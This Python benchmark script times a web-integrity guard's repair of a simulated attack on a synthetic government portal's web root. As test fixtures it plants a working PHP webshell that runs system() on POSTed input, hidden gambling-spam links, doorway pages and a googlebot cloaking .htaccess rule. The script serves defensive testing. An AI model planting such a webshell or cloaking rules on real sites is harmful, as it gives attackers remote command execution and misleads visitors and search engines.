"""The guard's repair of an attacked web root: find what changed, quarantine it, restore, remove, check.

    python benchmarks/guard_repair.py [--workdir /tmp/jagaweb-bench-repair] [--pages 2000] [--rounds 3]
                                      [--modified 300] [--added 300] [--deleted 100] [--chmods 50]

The script builds a deterministic web root of a regional government portal (a WordPress-like skeleton
and `--pages` news pages of 1-8 KiB of Indonesian text in berita/<year>/<month>/), backs it up with the
store under webroot/ (plain repository, local metadata cache, the web root source's default excludes), as
a site's daily backup does, and scans it once with an integrity state (as a running guard has one).

Each round attacks the tree the same way (fixed seed): `--modified` pages get gambling spam appended,
`--added` webshells and doorway pages are planted (in uploads, next to pages and in a new doorway folder),
`--deleted` pages are deleted, `--chmods` pages made world-writable, and index.php and .htaccess replaced.
Then it times, as `guard restore` runs them:
- the integrity comparison with the snapshot (with the state: only changed files are read);
- repair_tree (jagaweb.guard.repair) with a fresh quarantine folder: each step (quarantine, restore,
  remove added, settle folders, check) and the whole, with the paths each step handled from its
  progress callback;
- the rescan after the repair, which must find the tree as in the snapshot;
- repair_tree run again with the same changes and quarantine folder: nothing left to do (what a rerun
  after a crash at the very end does).
Medians over the rounds; the page cache is warm (the tree is small). Nothing here reads ../shared/data.
"""

from __future__ import annotations

import argparse
import contextlib
import os
import platform
import random
import resource
import shutil
import statistics
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import TypeVar

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from jagaweb.backup.sources.webroot import WebRootSource  # noqa: E402
from jagaweb.backup.store.archiver import Archiver  # noqa: E402
from jagaweb.backup.store.manifest import Manifest  # noqa: E402
from jagaweb.backup.store.repository import Repository  # noqa: E402
from jagaweb.backup.targets.local import LocalTarget  # noqa: E402
from jagaweb.guard.integrity import IntegrityReport, IntegrityState, compare_with_snapshot  # noqa: E402
from jagaweb.guard.repair import Change, RepairReport, RepairRun, repair_steps, repair_tree  # noqa: E402
from jagaweb.steps import Step  # noqa: E402

SEED = 20261121
PREFIX = "webroot/"
WORDS = ("pemerintah", "kabupaten", "dinas", "pelayanan", "masyarakat", "program", "pembangunan", "desa",
         "kegiatan", "bupati", "warga", "anggaran", "sekolah", "kesehatan", "jalan", "bantuan", "sosial",
         "rapat", "koordinasi", "tahun", "kecamatan", "informasi", "publik", "data", "laporan", "dan", "yang",
         "untuk", "dengan", "di", "pada", "dalam", "telah", "akan", "oleh", "sebagai", "kepada", "dari")
SPAM = "\n<div style=\"display:none\"><a href=\"https://slot-gacor.example/\">slot gacor maxwin</a> situs togel</div>\n"
SHELL = "<?php if (isset($_POST['c'])) { echo '<pre>'; system($_POST['c']); echo '</pre>'; } ?>\n"
DOORWAY = "<html><head><title>SLOT GACOR HARI INI</title></head><body><h1>Daftar slot online {n}</h1></body></html>\n"
STEPS = [step.name for step in repair_steps()]
Result = TypeVar("Result")


# ---- the web root ----
def write(path: Path, text: str | bytes, mode: int = 0o644) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    path.chmod(mode)


def page_paths(pages: int) -> list[str]:
    return [f"berita/{2019 + number % 8}/{number % 12 + 1:02d}/halaman-{number:05d}.html" for number in range(pages)]


def build_tree(tree: Path, pages: int) -> int:
    rng = random.Random(SEED)
    if tree.exists():
        shutil.rmtree(tree)
    write(tree / "index.php", "<?php define('WP_USE_THEMES', true); require __DIR__ . '/wp-blog-header.php';\n")
    write(tree / ".htaccess", "RewriteEngine On\nRewriteBase /\nRewriteRule ^index\\.php$ - [L]\n")
    write(tree / "wp-config.php", "<?php define('DB_NAME', 'portal'); define('DB_USER', 'portal');\n", 0o640)
    for name in ("wp-blog-header.php", "wp-load.php", "wp-settings.php", "wp-login.php", "xmlrpc.php"):
        write(tree / name, f"<?php /* {name} */ require_once ABSPATH . 'wp-includes/load.php';\n")
    for number in range(12):
        write(tree / f"wp-includes/modul-{number}.php", f"<?php function portal_{number}() {{ return {number}; }}\n")
        write(tree / f"wp-content/themes/dinas/bagian-{number}.php", f"<?php get_template_part('b{number}');\n")
        write(tree / f"wp-content/uploads/2024/{number % 12 + 1:02d}/foto-{number}.jpg",
              b"\xff\xd8\xff\xe0" + rng.randbytes(rng.randint(20_000, 80_000)))
    write(tree / "wp-content/themes/dinas/style.css", "body { font-family: sans-serif; color: #123; }\n")
    for rel in page_paths(pages):
        words = " ".join(rng.choice(WORDS) for _ in range(rng.randint(150, 1200)))
        write(tree / rel, f"<html><head><title>{rel}</title></head><body><article><p>{words}</p></article></body>"
                          "</html>\n")
    return sum(1 for _ in tree.rglob("*") if _.is_file())


def backup(tree: Path, repo_path: Path) -> str:
    if repo_path.exists():
        shutil.rmtree(repo_path)
    repo = Repository.init(LocalTarget(repo_path), cache=repo_path.parent / "cache")
    with repo.locked():
        archiver = Archiver(repo)
        WebRootSource(tree).add_to(archiver)
        return archiver.finish("bench").id


def attack(tree: Path, pages: int, modified: int, added: int, deleted: int, chmods: int) -> None:
    """The same attack every round: the repaired tree is the snapshot's, so it applies again."""
    rng = random.Random(SEED + 1)
    paths = page_paths(pages)
    chosen = rng.sample(paths, min(len(paths), modified + deleted + chmods))
    for rel in chosen[:modified]:
        with (tree / rel).open("a") as handle:
            handle.write(SPAM)
    for rel in chosen[modified:modified + deleted]:
        (tree / rel).unlink()
    for rel in chosen[modified + deleted:]:
        (tree / rel).chmod(0o777)
    for number in range(added):
        where = number % 3
        if where == 0:
            write(tree / f"wp-content/uploads/2024/{number % 12 + 1:02d}/cache-{number}.php", SHELL)
        elif where == 1:
            write(tree / f"{Path(paths[number % len(paths)]).parent}/wp-{number}.php", SHELL)
        else:
            write(tree / f"slot-gacor/{number % 7}/daftar-{number}.html", DOORWAY.format(n=number))
    write(tree / "index.php", "<?php /* hacked */ ?><h1>SLOT GACOR MAXWIN</h1>\n")
    write(tree / ".htaccess", "RewriteEngine On\nRewriteCond %{HTTP_USER_AGENT} googlebot [NC]\n"
                              "RewriteRule ^$ /slot-gacor/0/daftar-2.html [L]\n")


# ---- JagaWeb ----
def load(repo_path: Path, snapshot: str) -> tuple[Repository, Manifest]:
    repo = Repository.open(LocalTarget(repo_path), cache=repo_path.parent / "cache")
    return repo, repo.load_snapshot(snapshot)[1]


def compare(tree: Path, manifest: Manifest, state: Path, snapshot: str) -> IntegrityReport:
    return compare_with_snapshot(tree, manifest, PREFIX, state=IntegrityState(state),
                                 excludes=WebRootSource(tree).excludes, snapshot_id=snapshot)


@dataclass
class Bench:
    tree: Path
    repo: Repository
    manifest: Manifest
    state: Path
    snapshot: str
    quarantine: Path


class Timed(Step[RepairRun]):
    """One of the repair's own steps, timed; the cleanup (evidence.json, leftovers) is not in the figure."""

    def __init__(self, inner: Step[RepairRun], times: dict[str, float]) -> None:
        self.inner, self.times, self.name = inner, times, inner.name

    def run(self, context: RepairRun) -> None:
        started = time.perf_counter()
        try:
            self.inner.run(context)
        finally:
            self.times[self.name] = time.perf_counter() - started

    def cleanup(self, context: RepairRun) -> None:
        self.inner.cleanup(context)


def repair(bench: Bench, changes: list[Change], times: dict[str, float], handled: dict[str, int]) -> RepairReport:
    def progress(step: str, done: int, total: int) -> None:
        handled[step] = total

    with bench.repo.locked():
        return repair_tree(bench.tree, bench.repo, bench.manifest, changes, bench.quarantine, prefix=PREFIX,
                           progress=progress, steps=[Timed(step, times) for step in repair_steps()])


def timed(work: Callable[[], Result]) -> tuple[float, Result]:
    started = time.perf_counter()
    result = work()
    return time.perf_counter() - started, result


def one_round(bench: Bench) -> tuple[dict[str, float], str]:
    """The figures of one attacked tree (name -> seconds), and what was found and done."""
    figures: dict[str, float] = {}
    seconds, found = timed(lambda: compare(bench.tree, bench.manifest, bench.state, bench.snapshot))
    figures["integrity comparison"] = seconds
    changes = [Change(change.path, change.kind) for change in found.changes]
    kinds = Counter(str(change.kind) for change in found.changes)
    shutil.rmtree(bench.quarantine, ignore_errors=True)
    times: dict[str, float] = {}
    handled: dict[str, int] = {}
    seconds, done = timed(lambda: repair(bench, changes, times, handled))
    if not done.ok:
        sys.exit(f"the repair failed: {done.error} {list(done.failures.items())[:5]}")
    figures["repair_tree, whole"] = seconds
    figures.update((f"  step {step}", times.get(step, 0.0)) for step in STEPS)
    seconds, after = timed(lambda: compare(bench.tree, bench.manifest, bench.state, bench.snapshot))
    if not after.clean:
        sys.exit(f"the repaired tree should match its snapshot, but: {after.changes[:5]}")
    figures["rescan after the repair (clean)"] = seconds
    seconds, again = timed(lambda: repair(bench, changes, {}, {}))
    if not again.ok or not again.resumed:
        sys.exit(f"the rerun failed: {again.error} {list(again.failures.items())[:5]}")
    figures["repair_tree rerun, nothing to do"] = seconds
    line = (f"{len(changes)} changes ({', '.join(f'{kind} {count}' for kind, count in sorted(kinds.items()))}); "
            f"{found.files_hashed} files hashed by the comparison; quarantined {len(done.quarantined)}, restored "
            f"{len(done.restored)}, removed {len(done.removed)}; paths per step "
            + ", ".join(f"{step} {count}" for step, count in handled.items()))
    return figures, line


# ---- report ----
def machine() -> str:
    cpu = ""
    with contextlib.suppress(OSError, StopIteration), open("/proc/cpuinfo") as info:
        cpu = next(line.split(":", 1)[1].strip() for line in info if line.startswith("model name"))
    return f"{cpu}, {os.cpu_count()} cores, {platform.platform()}, Python {platform.python_version()}"


def filesystem(path: Path) -> str:
    done = subprocess.run(["df", "-T", str(path)], capture_output=True, text=True, check=False)
    lines = done.stdout.splitlines()
    return lines[1].split()[1] if len(lines) > 1 else "?"


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--workdir", type=Path, default=Path("/tmp/jagaweb-bench-repair"))
    parser.add_argument("--pages", type=int, default=2000)
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--modified", type=int, default=300)
    parser.add_argument("--added", type=int, default=300)
    parser.add_argument("--deleted", type=int, default=100)
    parser.add_argument("--chmods", type=int, default=50)
    args = parser.parse_args()
    if args.modified + args.deleted + args.chmods > args.pages:
        sys.exit("--modified + --deleted + --chmods must not exceed --pages")

    workdir: Path = args.workdir
    workdir.mkdir(parents=True, exist_ok=True)
    tree, repo_path, state = workdir / "www", workdir / "repo", workdir / "integrity.state"
    print(f"command: {' '.join([sys.executable, *sys.argv])}")
    print(f"machine: {machine()}; {filesystem(workdir)} at {workdir}; load average "
          f"{' '.join(f'{value:.1f}' for value in os.getloadavg())}")
    started = time.perf_counter()
    files = build_tree(tree, args.pages)
    print(f"tree: {files} files, built in {time.perf_counter() - started:.1f} s")
    started = time.perf_counter()
    snapshot = backup(tree, repo_path)
    print(f"backup {snapshot}: {time.perf_counter() - started:.1f} s")
    repo, manifest = load(repo_path, snapshot)
    state.unlink(missing_ok=True)
    first = compare(tree, manifest, state, snapshot)
    if not first.clean:
        sys.exit(f"the fresh tree should match its snapshot, but: {first.changes[:5]}")

    rows: dict[str, list[float]] = {}
    for number in range(args.rounds):
        attack(tree, args.pages, args.modified, args.added, args.deleted, args.chmods)
        figures, line = one_round(Bench(tree, repo, manifest, state, snapshot, workdir / f"quarantine-{number}"))
        for name, seconds in figures.items():
            rows.setdefault(name, []).append(seconds)
        print(f"round {number + 1}: {line}; " + ", ".join(f"{name.strip()} {value:.3f} s"
                                                          for name, value in figures.items()))
    print(f"\nmedians of {args.rounds} rounds, {files} files, warm page cache:")
    print(f"  {'':36s} {'median s':>9s} {'min':>7s} {'max':>7s}")
    for name, values in rows.items():
        print(f"  {name:36s} {statistics.median(values):9.3f} {min(values):7.3f} {max(values):7.3f}")
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    print(f"peak RSS of this process: {peak:.0f} MB; load average at the end "
          f"{' '.join(f'{value:.1f}' for value in os.getloadavg())} (other sessions share the machine)")


if __name__ == "__main__":
    main()
